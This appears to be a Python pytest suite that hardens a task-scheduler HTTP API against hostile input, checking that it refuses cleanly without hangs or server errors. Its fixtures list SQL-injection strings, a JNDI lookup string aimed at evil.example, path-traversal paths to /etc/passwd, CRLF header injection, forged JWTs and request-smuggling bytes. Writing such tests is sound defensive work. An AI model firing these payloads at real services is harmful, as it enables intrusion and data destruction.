"""Hostile requests to a real socket over a real PostgreSQL: a 4xx in the envelope, no hang, no half a task, no 5xx."""

from __future__ import annotations

import json
import logging
import re
import socket
from collections.abc import Iterator
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from cronwright_core.store.session import Database
from support.api import SECRET as KEY
from support.key_server import until
from support.postgres import fresh_database
from support.real_api import assert_whole, serving
from support.real_world import RealWorld, make_world
from support.tokens import SECRET, after, pair, raw, sign

BASE = "/api/v1/scheduler"
DEADLINE_SECONDS = 10
STRANGE = [
    "' OR 1=1 --",
    "1; DROP TABLE tasks; --",
    "1) UNION SELECT current_user --",
    "%' AND pg_sleep(20) --",
    "\\x27",
    "$1",
    "%s%s%n",
    "{0.__class__}",
    "${jndi:ldap://evil.example/x}",
    "../../../../etc/passwd",
    "..\\..\\windows",
    ".",
    "..",
    "\x00",
    "a\x00b",
    "\u202e\u0000\ufeff",
    "\U0001f4a3" * 40,
    "x" * 5000,
    "-1",
    "0",
    "1.0",
    "1e3",
    "\u0661\u0662",
    "9" * 400,
    "NaN",
    "null",
    "true",
    " ",
    "",
    "<script>alert(1)</script>",
    "a\r\nX-Injected: yes",
]
"""As an id, a query or a text."""


class Service:
    """The served world, with a project and a task in it."""

    def __init__(self, world: RealWorld, base: str) -> None:
        self.world = world
        self.port = int(base.rsplit(":", 1)[1])
        self.client = httpx.Client(base_url=base, timeout=DEADLINE_SECONDS, trust_env=False)
        made = self.call("POST", "/projects", json={"name": "seed", "image": "busybox", "members": ["alice"]})
        self.project = made.json()["data"]["id"]
        self.task = self.call("POST", "/tasks", json=self.body()).json()["data"]["id"]

    def body(self, **fields: Any) -> dict[str, Any]:
        """A good body, but for the fields."""
        good = {"name": "seed", "project_id": self.project, "schedule_type": "CRON", "schedule_config": "0 * * * *"}
        return good | fields

    def call(self, method: str, path: str, *, token: str | None = None, **kwargs: Any) -> httpx.Response:
        """A request of an administrator, unless there is another token."""
        bearer = self.world.token("root", admin=True) if token is None else token
        headers = {"Authorization": f"Bearer {bearer}", **kwargs.pop("headers", {})}
        return self.client.request(method, BASE + path, headers=headers, **kwargs)

    def post(self, content: bytes, content_type: str = "application/json") -> httpx.Response:
        """Creates a task from any bytes."""
        return self.call("POST", "/tasks", content=content, headers={"Content-Type": content_type})

    def speak(self, request: bytes) -> bytes:
        """Sends any bytes and returns what is answered: up to the end of the connection, or of the first answer."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=DEADLINE_SECONDS) as connection:
            connection.sendall(request)
            answer = b""
            while not complete(answer) and (chunk := receive(connection)):
                answer += chunk
            return answer

    def leave(self, request: bytes) -> None:
        """Sends these bytes and goes away."""
        with socket.create_connection(("127.0.0.1", self.port), timeout=DEADLINE_SECONDS) as connection:
            connection.sendall(request)


def receive(connection: socket.socket) -> bytes:
    """The next bytes; none when the server has closed, which it may do by a reset if it has not read everything."""
    try:
        return connection.recv(65536)
    except ConnectionError:
        return b""


def complete(answer: bytes) -> bool:
    """Whether the answer has as many bytes as it says."""
    head, found, body = answer.partition(b"\r\n\r\n")
    length = re.search(rb"content-length: *([0-9]+)", head, re.IGNORECASE)
    return bool(found and length and len(body) >= int(length[1]))


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Service]:
    with fresh_database() as url:
        database = Database(url, application_name="tests")
        world = make_world(tmp_path_factory.mktemp("hostile") / "keys", database)
        with serving(world) as base:
            service = Service(world, base)
            yield service
            service.client.close()
        database.dispose()


@pytest.fixture
def service(shared: Service, caplog: pytest.LogCaptureFixture) -> Iterator[Service]:
    """The service; whatever a test sent, afterwards nothing is half made, and no request has failed by a bug."""
    with caplog.at_level(logging.WARNING):
        yield shared
    failures = [record for record in caplog.get_records("call") if record.levelno >= logging.ERROR]
    assert [(record.getMessage(), repr(record.exc_info)) for record in failures] == []
    assert_whole(shared.world)
    assert shared.call("GET", f"/tasks/{shared.task}").status_code == 200


def refused(response: httpx.Response, *codes: int) -> dict[str, Any]:
    """The envelope of an answer that must have one of these codes."""
    assert response.status_code in codes, f"{response.status_code}: {response.text[:300]}"
    body: dict[str, Any] = response.json()
    assert set(body) == {"success", "code", "message", "errors", "timestamp"}
    assert (body["success"], body["code"]) == (False, response.status_code)
    assert "x-injected" not in response.headers
    for word in ("psycopg", "sqlalchemy", "Traceback", "SELECT"):
        assert word not in response.text.replace("UNION SELECT", "")
    return body


@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
def test_ids(service: Service, text: str) -> None:
    for method, path in (
        ("GET", "/tasks/{}"),
        ("PUT", "/tasks/{}"),
        ("DELETE", "/tasks/{}"),
        ("POST", "/tasks/{}/trigger"),
        ("GET", "/tasks/{}/executions"),
        ("GET", "/projects/{}"),
        ("GET", "/executions/{}"),
        ("GET", "/executions/{}/logs/file"),
    ):
        target = path.format(quote(text, safe=""))
        if text in (".", "..", ""):  # the client would resolve these by itself
            continue
        # 405: an empty or slashed id makes another path of it.
        refused(service.call(method, target, json={} if method == "PUT" else None), 400, 404, 405)


@pytest.mark.parametrize(
    "path",
    [
        "/tasks/../../../healthz",
        "/tasks/%2e%2e/projects",
        "/tasks/..%2f..%2fhealthz",
        "/executions/..%2F..%2Fetc%2Fpasswd/logs/file",
        "/executions/%2e%2e%2f%2e%2e%2f/logs/file",
        "/tasks/%ff%fe",
        "/executions/%ed%a0%80",
        "/tasks/1%00",
        "/tasks//1",
        "//evil.example/tasks",
        "/tasks;a=b",
        "/tasks%3fpage=1",
        "/%74asks/%",
    ],
)
def test_paths_sent_as_they_are(service: Service, path: str) -> None:
    token = service.world.token("root", admin=True)
    request = f"GET {BASE}{path} HTTP/1.1\r\nHost: x\r\nConnection: close\r\nAuthorization: Bearer {token}\r\n\r\n"
    head, _, body = service.speak(request.encode()).partition(b"\r\n\r\n")
    assert head.split()[1] in (b"400", b"404"), head
    assert json.loads(body)["success"] is False


@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
def test_queries(service: Service, text: str) -> None:
    for path, names in (
        ("/tasks", ("page", "size", "status", "is_active")),
        (f"/tasks/{service.task}/executions", ("status", "start_date", "end_date")),
        ("/executions/none/logs/file", ("log_type", "lines")),
    ):
        for name in names:
            response = service.call("GET", path, params={name: text})
            if response.status_code == 200:  # such as is_active=true
                assert (name, text) in {("is_active", "true")}
            else:
                refused(response, 400, 404)
    assert service.call("GET", "/tasks", params={text: text}).status_code == 200, "unknown parameters are ignored"


@pytest.mark.parametrize("text", STRANGE, ids=range(len(STRANGE)))
def test_texts_in_bodies_are_stored_as_they_are_or_refused(service: Service, text: str) -> None:
    for field in ("name", "description", "schedule_config", "time_zone", "image"):
        response = service.call("POST", "/tasks", json=service.body(**{"name": "a name", field: text}))
        if response.status_code != 200:
            refused(response, 400, 409)
            continue
        task = service.call("GET", f"/tasks/{response.json()['data']['id']}").json()["data"]
        if field in ("name", "description", "image"):
            assert task[field] in (text, text.strip())
        assert service.call("DELETE", f"/tasks/{task['id']}").status_code == 200


def nested(depth: int, opening: str, closing: str) -> str:
    return opening * depth + "1" + closing * depth


BODIES: dict[str, bytes] = {
    "nothing": b"",
    "no JSON": b"{",
    "no object": b"[]",
    "trailing text": b"{} {}",
    "comments": b'{"name": 1 /* x */}',
    "single quotes": b"{'name': 'x'}",
    "NUL": b'{"name": "a\x00b"}',
    "escaped NUL": b'{"name": "abc\\u0000", "project_id": 1, "schedule_type": "ONCE"}',
    "lone surrogate": b'{"name": "abc\\ud800", "project_id": 1, "schedule_type": "ONCE"}',
    "lone surrogate as a key": b'{"\\udfff": 1, "name": "\\udfff", "project_id": 1, "schedule_type": "ONCE"}',
    "lone surrogate in env": b'{"name":"abc","project_id":1,"schedule_type":"ONCE","env":{"A":"\\ud800"}}',
    "lone surrogate as a name in env": b'{"name":"abc","project_id":1,"schedule_type":"ONCE","env":{"\\ud800":1}}',
    "lone surrogate in resources": b'{"name":"abc","resources":{"limits":{"\\ud800":[]}}}',
    "lone surrogate twice": b'{"\\ud800":1,"\\ud800":2}',
    "lone surrogate in an unknown field": b'{"name":"abc","x":[{"y":"\\udc00"}]}',
    "invalid UTF-8": b'{"name": "\xff\xfe"}',
    "UTF-16": '{"name": "abc"}'.encode("utf-16"),
    "byte order mark": b"\xef\xbb\xbf{}",
    "the same key twice": b'{"name":"abc","project_id":1,"schedule_type":"ONCE","name":"abd"}',
    "the same key twice inside": b'{"name":"abc","project_id":1,"schedule_type":"ONCE","env":{"A":"1","A":"2"}}',
    "NaN": b'{"priority": NaN}',
    "infinity": b'{"priority": 1e999}',
    "an integer of 5000 digits": b'{"priority": ' + b"9" * 5000 + b"}",
    "an integer of 400 digits": b'{"project_id": ' + b"9" * 400 + b"}",
    "deep lists": nested(100_000, "[", "]").encode(),
    "deep objects": nested(100_000, '{"a":', "}").encode(),
    "deep inside a field": f'{{"name":"abc","project_id":1,"env":{nested(900, "[", "]")}}}'.encode(),
    "deep inside resources": b'{"name":"abc","resources":' + nested(900, '{"limits":', "}").encode() + b"}",
    "one MB and a byte": b'{"name": "' + b"x" * 1024 * 1024 + b'"}',
    "five MB": b'{"description": "' + b"x" * 5 * 1024 * 1024 + b'"}',
    "many keys": ("{" + ",".join(f'"k{n}":0' for n in range(60_000)) + "}").encode(),
    "many keys, the last one twice": ("{" + ",".join(f'"k{n}":0' for n in range(60_000)) + ',"k59999":1}').encode(),
    "many variables": json.dumps({"env": [{"name": f"A{n}"} for n in range(20_000)]}).encode(),
    "prototype": b'{"__proto__": {"is_admin": true}, "constructor": 1, "__class__": 1}',
}


@pytest.mark.parametrize("case", BODIES)
def test_bodies(service: Service, case: str) -> None:
    refused(service.post(BODIES[case]), 400)
    refused(service.call("PUT", f"/tasks/{service.task}", content=BODIES[case]), 400)  # no content type


@pytest.mark.parametrize(
    "content_type", ["", "text/plain", "multipart/form-data; boundary=x", "a/b/c", "application/xml"]
)
def test_content_types(service: Service, content_type: str) -> None:
    refused(service.post(json.dumps(service.body(name="typed")).encode(), content_type), 400)


@pytest.mark.parametrize(
    ("method", "path"), [("POST", "/tasks"), ("PUT", "/tasks/{task}"), ("POST", "/projects"), ("PUT", "/projects/{id}")]
)
def test_a_tower_of_combining_marks_is_no_name(service: Service, method: str, path: str) -> None:
    """Composing this would take minutes, and hold up everybody: the client would give up."""
    body = service.body(name="a" + "\u0301" * 100_000 + "\u0323" * 100_000, image="busybox")
    answer = service.call(method, path.format(task=service.task, id=service.project), json=body)
    assert "name" in [error["field"] for error in refused(answer, 400)["errors"]]


def test_a_field_that_stands_twice_is_named(service: Service) -> None:
    errors = refused(service.post(BODIES["the same key twice"]), 400)["errors"]
    assert [error["field"] for error in errors] == ["name"]


FORGED = {
    "none": raw({"alg": "none", "typ": "JWT"}, '{"sub":"root","roles":["admin"],"exp":9999999999}'),
    "None": raw({"alg": "None", "kid": "k1"}, '{"sub":"root","roles":["admin"],"exp":9999999999}'),
    "none with a signature": raw({"alg": "nOnE", "kid": "k1"}, '{"sub":"root","exp":9999999999}', b"x" * 32),
    "another secret": sign({"roles": ["admin"]}, "another secret, of which nobody here knows", header={"kid": "k1"}),
    "an empty secret's place": sign({}, " " * 32, header={"kid": "k1"}),
    "an unknown kid": sign({}, SECRET, header={"kid": "k2"}),
    "a path as kid": sign({}, SECRET, header={"kid": "../../../../dev/null"}),
    "SQL as kid": sign({}, SECRET, header={"kid": "' UNION SELECT 'x' --"}),
    "a key of its own": pair("RS256").sign(jwk=pair("RS256").jwk()),
    "two dots": "..",
    "long": "a." * 10_000,
    "not base64": "%%%.%%%.%%%",
    "deep claims": raw({"alg": "HS256", "kid": "k1"}, nested(20_000, "[", "]")),
    "binary": "\u00ff\u00fe.\u0080.\u0081",
}


@pytest.mark.parametrize("case", FORGED)
def test_forged_tokens(service: Service, case: str) -> None:
    response = service.call("GET", "/tasks", headers={"Authorization": f"Bearer {FORGED[case]}".encode("latin-1")})
    refused(response, 401)
    assert response.headers["WWW-Authenticate"].startswith("Bearer")


@pytest.mark.parametrize(
    ("claims", "code"),
    [
        ({}, 200),
        ({"exp": after(-120)}, 401),
        ({"exp": ...}, 401),
        ({"iat": after(3600)}, 401),
        ({"nbf": after(3600)}, 401),
        ({"exp": 10**400}, 401),
        ({"exp": "soon"}, 401),
        ({"sub": "' OR 1=1 --"}, 200),
        ({"sub": "al\x00ice"}, 401),
        ({"sub": ["alice"]}, 401),
        ({"sub": ...}, 401),
        ({"roles": {"admin": True}}, 200),
        ({"crit": ["x"]}, 200),
    ],
    ids=range(13),
)
def test_claims(service: Service, claims: dict[str, Any], code: int) -> None:

    token = sign({"sub": "mallory", **claims}, KEY, header={"kid": "k1"})
    response = service.call("GET", "/tasks", token=token)
    assert response.status_code == code, response.text
    if code == 200:
        assert response.json()["total"] == 0, "nobody's tasks but one's own"
        refused(service.call("POST", "/tasks", token=token, json=service.body(name="by a stranger")), 400)


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("Accept-Language", "x" * 20_000),
        ("Accept-Language", ",".join(["en;q=0.5"] * 2000)),
        ("Accept-Language", "en;q=" + "9" * 5000),
        ("X-Request-ID", "x" * 20_000),
        ("X-Request-ID", "'; DROP TABLE tasks"),
        ("Content-Length", "0"),
        ("X-Forwarded-For", "' OR 1=1"),
        ("Range", "bytes=0-1,2-3"),
        ("Cookie", "a=" + "b" * 20_000),
    ],
)
def test_headers_change_nothing(service: Service, name: str, value: str) -> None:
    assert service.call("GET", f"/tasks/{service.task}", headers={name: value}).status_code == 200


@pytest.mark.parametrize("key", ["", "x" * 20_000, "' OR 1=1 --", "\u00e9", "a/b", "..", "\x7f", "k" * 64])
def test_idempotency_keys(service: Service, key: str) -> None:
    response = service.call(
        "POST", f"/tasks/{service.task}/trigger", headers={b"Idempotency-Key": key.encode("latin-1")}
    )
    if response.status_code != 200:
        refused(response, 400)


REQUESTS: dict[str, bytes] = {
    "no HTTP": b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03\r\n\r\n",
    "a line of 100 KB": b"GET /" + b"a" * 100_000 + b" HTTP/1.1\r\nHost: x\r\n\r\n",
    "headers of 100 KB": b"GET / HTTP/1.1\r\nHost: x\r\nX: " + b"a" * 100_000 + b"\r\n\r\n",
    "two lengths": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nContent-Length: 2\r\n\r\nab",
    "length and chunks": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: 1\r\nTransfer-Encoding: chunked\r\n\r\nzz",
    "a bad length": b"POST / HTTP/1.1\r\nHost: x\r\nContent-Length: -1\r\n\r\n",
    "no host": b"GET / HTTP/1.1\r\n\r\n",
    "an unknown method": b"BREW /api/v1/scheduler/tasks HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n",
}


@pytest.mark.parametrize("case", REQUESTS)
def test_what_is_hardly_http(service: Service, case: str) -> None:
    """Answered by the server itself, in plain text where it cannot be read as a request at all."""
    answer = service.speak(REQUESTS[case])
    assert answer.startswith((b"HTTP/1.1 400", b"HTTP/1.1 404", b"HTTP/1.1 405", b"HTTP/1.1 431", b"HTTP/1.1 414")), (
        answer
    )


def test_half_a_body_holds_up_nobody(service: Service) -> None:
    token = service.world.token("root", admin=True)
    head = (
        f"POST {BASE}/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        'Content-Type: application/json\r\nContent-Length: 1000\r\n\r\n{"name": "half'
    ).encode()
    waiting = [socket.create_connection(("127.0.0.1", service.port)) for _ in range(60)]
    try:
        for connection in waiting:
            connection.sendall(head)
        for _ in range(5):
            assert service.call("GET", "/tasks").status_code == 200
    finally:
        for connection in waiting:
            connection.close()
    assert service.call("GET", "/tasks").status_code == 200


def test_who_goes_away_in_the_middle_leaves_nothing(service: Service, caplog: pytest.LogCaptureFixture) -> None:
    before = service.call("GET", "/tasks").json()["total"]
    token = service.world.token("root", admin=True)
    body = json.dumps(service.body(name="gone away")).encode()
    head = (
        f"POST {BASE}/tasks HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n"
        f"Content-Type: application/json\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()

    def ended() -> int:
        return sum(
            record.name == "cronwright_api.access" and vars(record)["method"] == "POST" for record in caplog.records
        )

    with caplog.at_level(logging.INFO, logger="cronwright_api.access"):
        for cut in (0, 10, len(body) - 1):
            service.leave(head + body[:cut])
        until(lambda: ended() == 3)
        assert service.call("GET", "/tasks").json()["total"] == before
        service.leave(head + body)
        until(lambda: ended() == 4)
    # Sent whole, it may be done although nobody waits for the answer - whole, or not at all: see the fixture.
